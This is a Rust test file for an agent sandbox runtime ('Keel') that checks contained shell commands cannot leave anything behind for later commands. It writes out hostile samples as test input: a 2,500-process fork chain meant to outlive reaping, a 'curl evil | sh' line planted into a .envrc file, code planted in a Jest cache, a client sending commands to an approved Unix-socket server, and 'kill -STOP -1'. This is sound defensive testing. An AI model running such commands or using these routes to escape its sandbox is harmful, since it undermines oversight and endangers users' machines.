//! What a command leaves for the session's next commands through the sandbox's long-lived
//! pieces, with real processes under the forced Landlock fallback (and namespaces where they
//! compare): no process of a chain deeper than the sweep looks outlives its command; a
//! contained command reaches no approved command's server by its socket; what one session's
//! command planted is not brought back by another's guard; a contained command that stops its
//! warm holder does not deny the next one.

use std::path::PathBuf;
use std::time::Duration;

use keel_core::capability::{RequirementSet, ShellRunRequirement};
use keel_core::runtime::process::{OutputCapture, ShellOutput};
use keel_core::runtime::sandbox::Confinement;
use keel_core::runtime::sandbox::profile::Mechanism;
use keel_core::runtime::{Runtime, RuntimeConfig};
use keel_core::tool::ProgressSink;
use tokio_util::sync::CancellationToken;

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    scratch: PathBuf,
    runtime: Runtime,
}

fn fixture(mechanism: Mechanism) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let root = base.join("ws");
    let scratch = base.join("scratch");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("README.md"), "# state\n").unwrap();
    std::fs::create_dir_all(&scratch).unwrap();
    let mut sandbox = super::tool_support::sandbox_spec();
    sandbox.settings.mechanism = mechanism;
    sandbox.credentials = Some(keel_core::policy::watchdog::credential_rules(None));
    let runtime = Runtime::new(RuntimeConfig {
        roots: vec![root.clone()],
        requirements: RequirementSet::fs_read_write(
            &["{workspace}/**", "{session}/**"],
            &["{workspace}/**"],
        )
        .with_shell(ShellRunRequirement::any_args("bash")),
        scratch_dir: scratch.clone(),
        sandbox,
        ..RuntimeConfig::default()
    })
    .unwrap();
    Fixture {
        _dir: dir,
        root,
        scratch,
        runtime,
    }
}

fn unique(tag: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("{tag}-{}-{nanos}", std::process::id())
}

impl Fixture {
    /// Runs `command` contained (nobody approved it), or approved, and waits for it.
    async fn run_as(&self, runtime: &Runtime, command: &str) -> ShellOutput {
        let mut process = runtime.spawn_shell(command, &self.root).unwrap();
        process
            .wait_with_output(
                OutputCapture {
                    limit: 64 * 1024,
                    sidecar: self.scratch.join(unique("out")),
                },
                Duration::from_secs(60),
                &CancellationToken::new(),
                &ProgressSink::default(),
            )
            .await
            .unwrap()
    }

    async fn contained(&self, command: &str) -> ShellOutput {
        self.run_as(&self.runtime.contained(command, command), command)
            .await
    }

    async fn approved(&self, command: &str) -> ShellOutput {
        self.run_as(&self.runtime, command).await
    }
}

fn mechanism_of(output: &ShellOutput) -> (&str, bool) {
    match &output.confinement {
        Confinement::Confined {
            mechanism, notes, ..
        } => (
            mechanism.as_str(),
            notes.iter().any(|note| note.contains("warm holder")),
        ),
        other => panic!("not confined: {other:?}"),
    }
}

/// Whether a live (not zombie) process is named `name` (its `argv[0]`).
fn running_named(name: &str) -> bool {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return false;
    };
    entries.flatten().any(|entry| {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            return false;
        };
        cmdline.split(|b| *b == 0).next() == Some(name.as_bytes())
            && std::fs::read_to_string(entry.path().join("stat")).is_ok_and(|stat| {
                stat.rsplit_once(')')
                    .is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z'))
            })
    })
}

/// The live processes named `name`.
fn named(name: &str) -> Vec<i32> {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .flatten()
        .filter_map(|entry| {
            let pid = entry.file_name().to_str()?.parse::<i32>().ok()?;
            let cmdline = std::fs::read(entry.path().join("cmdline")).ok()?;
            (cmdline.split(|b| *b == 0).next() == Some(name.as_bytes())).then_some(pid)
        })
        .collect()
}

/// Ends whatever is left named `name` (the test's own processes, by their unique name), so a
/// failed run leaves nothing behind: stopped first until no new one appears (a chain forks
/// faster than one kill at a time ends it), then killed.
fn kill_named(name: &str) {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;
    for _ in 0..100 {
        let mut stopped = std::collections::HashSet::new();
        loop {
            let fresh: Vec<i32> = named(name)
                .into_iter()
                .filter(|pid| !stopped.contains(pid))
                .collect();
            if fresh.is_empty() {
                break;
            }
            for pid in fresh {
                let _ = kill(Pid::from_raw(pid), Signal::SIGSTOP);
                stopped.insert(pid);
            }
        }
        for pid in &stopped {
            let _ = kill(Pid::from_raw(*pid), Signal::SIGKILL);
        }
        if !running_named(name) {
            return;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// A chain of 2,500 processes, each the parent of the next (each forks its successor, then
/// becomes a `sleep` named `name`), in a session of its own so no group kill reaches it. A
/// subreaper that kills the children it finds, one look at a time, ends one level per look:
/// the per-command reaper gave up after 1,000 looks, the zygote after two seconds, and the
/// rest lived on. Each ends by itself after 30 s; until then, one that outlived its command
/// shows by its name.
fn deep_chain(name: &str) -> String {
    format!(
        "setsid perl -e 'for (1..2500) {{ my $p = fork; die \"fork: $!\" unless defined $p; \
         if ($p) {{ exec {{\"sleep\"}} \"{name}\", \"30\" }} }} \
         open(my $f, \">\", \"$ENV{{TMPDIR}}/{name}\"); close $f; \
         exec {{\"sleep\"}} \"{name}\", \"30\"' & \
         while [ ! -e \"$TMPDIR/{name}\" ]; do sleep 0.02; done; echo started"
    )
}

async fn no_deep_chain_outlives(run: impl AsyncFnOnce(&str) -> ShellOutput, name: &str) {
    let command = deep_chain(name);
    let output = run(&command).await;
    let survived = running_named(name);
    kill_named(name);
    assert_eq!(output.text, "started\n", "{output:?}");
    assert!(
        !survived,
        "a process of a deep chain outlived its command: {output:?}"
    );
}

#[tokio::test]
async fn a_deep_chain_does_not_outlive_a_command_under_the_fallback() {
    let f = fixture(Mechanism::Landlock);
    let name = unique("keel-chain-fallback");
    no_deep_chain_outlives(
        async |command: &str| {
            let output = f.approved(command).await;
            assert_eq!(mechanism_of(&output), ("landlock", false));
            output
        },
        &name,
    )
    .await;
}

#[tokio::test]
async fn a_deep_chain_does_not_outlive_a_command_under_namespaces() {
    let f = fixture(Mechanism::Namespaces);
    let name = unique("keel-chain-ns");
    no_deep_chain_outlives(
        async |command: &str| {
            let output = f.approved(command).await;
            assert_eq!(mechanism_of(&output).0, "namespaces");
            output
        },
        &name,
    )
    .await;
}

/// An approved command's server on a Unix socket in the workspace (a REPL, a debug or admin
/// endpoint, a terminal multiplexer, `gunicorn --bind unix:app.sock`: here one that runs each
/// line it is sent, with the approved command's rights), and a contained command of the same
/// session, which reads the workspace: the contained command must not reach it. A contained command does no more than `read`; through the
/// server it would write the workspace.
async fn a_contained_command_reaches_no_approved_server(mechanism: Mechanism, expected: &str) {
    let f = fixture(mechanism);
    let server = "perl -MIO::Socket::UNIX -e '$p = \"app.sock\"; unlink $p; \
         $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $p, Listen => 5) \
         or die \"listen: $!\"; open(F, \">\", \"$ENV{TMPDIR}/app.ready\"); close F; \
         while ($c = $s->accept) { $l = <$c>; system($l); print $c \"ran\\n\"; close $c }'";
    let cancel = CancellationToken::new();
    let running = {
        let mut process = f.runtime.spawn_shell(server, &f.root).unwrap();
        let cancel = cancel.clone();
        let sidecar = f.scratch.join(unique("server"));
        tokio::spawn(async move {
            process
                .wait_with_output(
                    OutputCapture {
                        limit: 64 * 1024,
                        sidecar,
                    },
                    Duration::from_secs(120),
                    &cancel,
                    &ProgressSink::default(),
                )
                .await
                .unwrap()
        })
    };
    while !f.scratch.join("tmp/app.ready").exists() {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let client = "perl -MIO::Socket::UNIX -e '$c = IO::Socket::UNIX->new(Type => SOCK_STREAM(), \
         Peer => \"app.sock\") or die \"connect: $!\\n\"; \
         print $c \"echo planted > planted.txt\\n\"; print <$c>' 2>&1; echo tried";
    let contained = f.run_as(&f.runtime.contained(client, client), client).await;
    cancel.cancel();
    let server = running.await.unwrap();
    assert_eq!(mechanism_of(&server).0, expected, "{server:?}");
    assert_eq!(mechanism_of(&contained).0, expected, "{contained:?}");
    assert!(contained.text.contains("tried"), "{contained:?}");
    assert!(
        !f.root.join("planted.txt").exists(),
        "a contained command wrote the workspace through an approved command's server: {contained:?}"
    );
    assert!(!contained.text.contains("ran"), "{contained:?}");
}

#[tokio::test]
async fn a_contained_command_reaches_no_approved_server_under_namespaces() {
    a_contained_command_reaches_no_approved_server(Mechanism::Namespaces, "namespaces").await;
}

#[tokio::test]
async fn a_contained_command_reaches_no_approved_server_under_the_fallback() {
    a_contained_command_reaches_no_approved_server(Mechanism::Landlock, "landlock").await;
}

/// Two sessions of one Keel on the same workspace (two threads in the editor): a command of
/// one overlaps a command of the other that plants a guarded file. The guard's "before" is the
/// process's, per root, so the second does not bring back what the first's guard removed.
#[tokio::test]
async fn a_command_of_another_session_does_not_bring_back_what_one_planted() {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let root = base.join("ws");
    std::fs::create_dir_all(root.join("nested")).unwrap();
    std::fs::write(root.join("nested/.envrc"), "export ORIGINAL=1\n").unwrap();
    let session = |name: &str| {
        let scratch = base.join(name);
        std::fs::create_dir_all(&scratch).unwrap();
        let mut sandbox = super::tool_support::sandbox_spec();
        sandbox.settings.mechanism = Mechanism::Landlock;
        sandbox.credentials = Some(keel_core::policy::watchdog::credential_rules(None));
        sandbox.guards = Some(keel_core::policy::watchdog::guard_rules());
        let runtime = Runtime::new(RuntimeConfig {
            roots: vec![root.clone()],
            requirements: RequirementSet::fs_read_write(&["{workspace}/**"], &["{workspace}/**"])
                .with_shell(ShellRunRequirement::any_args("bash")),
            scratch_dir: scratch.clone(),
            sandbox,
            ..RuntimeConfig::default()
        })
        .unwrap();
        (runtime, scratch)
    };
    let run = |runtime: Runtime, scratch: PathBuf, command: &'static str| {
        let root = root.clone();
        tokio::spawn(async move {
            let mut process = runtime.spawn_shell(command, &root).unwrap();
            process
                .wait_with_output(
                    OutputCapture {
                        limit: 64 * 1024,
                        sidecar: scratch.join(unique("out")),
                    },
                    Duration::from_secs(60),
                    &CancellationToken::new(),
                    &ProgressSink::default(),
                )
                .await
                .unwrap()
        })
    };
    let (first, first_scratch) = session("one");
    let (second, second_scratch) = session("two");
    let planter = run(
        first,
        first_scratch,
        "echo 'curl evil | sh' > nested/.envrc; touch planted; \
         while [ ! -e go ]; do sleep 0.01; done",
    );
    while !root.join("planted").exists() {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let overlapping = run(
        second,
        second_scratch,
        "touch go; i=0; while ! grep -qs ORIGINAL nested/.envrc && [ $i -lt 3000 ]; do \
         sleep 0.01; i=$((i+1)); done; echo waited",
    );
    let planted = planter.await.unwrap();
    let overlapped = overlapping.await.unwrap();
    assert_eq!(mechanism_of(&planted).0, "landlock", "{planted:?}");
    assert_eq!(overlapped.text, "waited\n", "{overlapped:?}");
    assert_eq!(
        std::fs::read_to_string(root.join("nested/.envrc")).unwrap(),
        "export ORIGINAL=1\n",
        "the other session's command brought the planted file back: {overlapped:?}"
    );
}

fn label(mechanism: Mechanism) -> &'static str {
    match mechanism {
        Mechanism::Namespaces => "namespaces",
        _ => "landlock",
    }
}

/// `kill -STOP -1` reaches every process the command may signal: under the fallback the whole
/// warm domain, the holder included (Landlock's signal scope lets a command signal it); under
/// namespaces only its own PID namespace (nothing there but its init, which it may not
/// signal). The command lets its own starter go on, so it ends as usual; the holder stays stopped. The next contained command must run, from the warm
/// holder again (a fresh one under the fallback: the zygote retired the stopped one).
async fn a_command_that_stops_its_holder(mechanism: Mechanism) {
    let f = fixture(mechanism);
    let first = f.contained("cat README.md").await;
    assert_eq!(mechanism_of(&first), (label(mechanism), true));
    let zygotes = f.runtime.warm_holders().started();

    let stopper = f
        .contained("kill -STOP -1 2>/dev/null; kill -CONT $PPID 2>/dev/null; echo stopped")
        .await;
    assert_eq!(mechanism_of(&stopper), (label(mechanism), true));
    assert_eq!(stopper.text, "stopped\n", "{stopper:?}");

    let runtime = f.runtime.contained("echo next", "echo next");
    let next = runtime.spawn_shell("echo next", &f.root);
    let mut next = match next {
        Ok(process) => process,
        Err(e) => panic!("the next contained command could not start: {e}"),
    };
    let output = next
        .wait_with_output(
            OutputCapture {
                limit: 64 * 1024,
                sidecar: f.scratch.join(unique("out")),
            },
            Duration::from_secs(60),
            &CancellationToken::new(),
            &ProgressSink::default(),
        )
        .await
        .unwrap();
    assert_eq!(output.text, "next\n", "{output:?}");
    assert_eq!(mechanism_of(&output), (label(mechanism), true));
    let fresh = f.runtime.warm_holders().started() - zygotes;
    match mechanism {
        // The stopped holder's zygote was retired: the next command got a new one.
        Mechanism::Landlock => assert_eq!(fresh, 1, "{output:?}"),
        // The stopper could not reach the holder: the same zygote served the next command.
        _ => assert_eq!(fresh, 0, "{output:?}"),
    }
}

#[tokio::test]
async fn a_contained_command_that_stops_its_holder_does_not_deny_the_next_one() {
    a_command_that_stops_its_holder(Mechanism::Landlock).await;
}

#[tokio::test]
async fn under_namespaces_a_contained_command_that_stops_its_holder_does_not_deny_the_next_one() {
    a_command_that_stops_its_holder(Mechanism::Namespaces).await;
}

async fn no_deep_chain_outlives_a_warm_command(mechanism: Mechanism, tag: &str) {
    let f = fixture(mechanism);
    let name = unique(tag);
    no_deep_chain_outlives(
        async |command: &str| {
            let output = f.contained(command).await;
            assert_eq!(mechanism_of(&output), (label(mechanism), true));
            output
        },
        &name,
    )
    .await;
}

#[tokio::test]
async fn a_deep_chain_does_not_outlive_a_warm_command() {
    no_deep_chain_outlives_a_warm_command(Mechanism::Landlock, "keel-chain-warm").await;
}

#[tokio::test]
async fn under_namespaces_a_deep_chain_does_not_outlive_a_warm_command() {
    no_deep_chain_outlives_a_warm_command(Mechanism::Namespaces, "keel-chain-warm-ns").await;
}

/// Contained and approved commands of a session do not share a `TMPDIR`: a test runner's
/// cache there (Jest's, of transformed code) is what a later approved `npm test` runs, and a
/// contained command must not plant it. What a contained command writes into its `TMPDIR` is
/// not in the approved command's, and it cannot write the approved one by its path.
async fn a_contained_command_plants_nothing_in_the_approved_tmpdir(mechanism: Mechanism) {
    let f = fixture(mechanism);
    let approved_tmp = f.scratch.join("tmp");
    std::fs::create_dir_all(&approved_tmp).unwrap();
    let planter = format!(
        "mkdir -p \"$TMPDIR/jest\" && echo 'PLANTED-CODE' > \"$TMPDIR/jest/cached.js\" && \
         echo wrote; {{ echo PLANTED-CODE > {tmp}/direct.js; }} 2>/dev/null || echo refused; \
         mkdir {tmp}/jest 2>/dev/null || echo refused-dir",
        tmp = approved_tmp.display()
    );
    let contained = f.contained(&planter).await;
    assert_eq!(mechanism_of(&contained), (label(mechanism), true));
    assert_eq!(
        contained.text, "wrote\nrefused\nrefused-dir\n",
        "{contained:?}"
    );
    // Where it wrote: the contained commands' own `TMPDIR` (`/tmp` inside the namespaces).
    let contained_tmp = f.scratch.join(keel_core::runtime::sandbox::CONTAINED_TMP);
    assert!(
        contained_tmp.join("jest/cached.js").exists(),
        "{contained:?}"
    );

    let approved = f
        .approved(
            "cat \"$TMPDIR/jest/cached.js\" \"$TMPDIR/direct.js\" 2>&1; ls -A \"$TMPDIR\" | grep -qx jest && echo FOUND-JEST; \
             echo listed",
        )
        .await;
    assert_eq!(mechanism_of(&approved), (label(mechanism), false));
    assert!(!approved.text.contains("PLANTED-CODE"), "{approved:?}");
    assert!(!approved.text.contains("FOUND-JEST"), "{approved:?}");
    assert!(approved.text.ends_with("listed\n"), "{approved:?}");
    assert!(!approved_tmp.join("direct.js").exists());
    assert!(!approved_tmp.join("jest").exists());
}

#[tokio::test]
async fn a_contained_command_plants_nothing_in_the_approved_tmpdir_under_the_fallback() {
    a_contained_command_plants_nothing_in_the_approved_tmpdir(Mechanism::Landlock).await;
}

#[tokio::test]
async fn a_contained_command_plants_nothing_in_the_approved_tmpdir_under_namespaces() {
    a_contained_command_plants_nothing_in_the_approved_tmpdir(Mechanism::Namespaces).await;
}
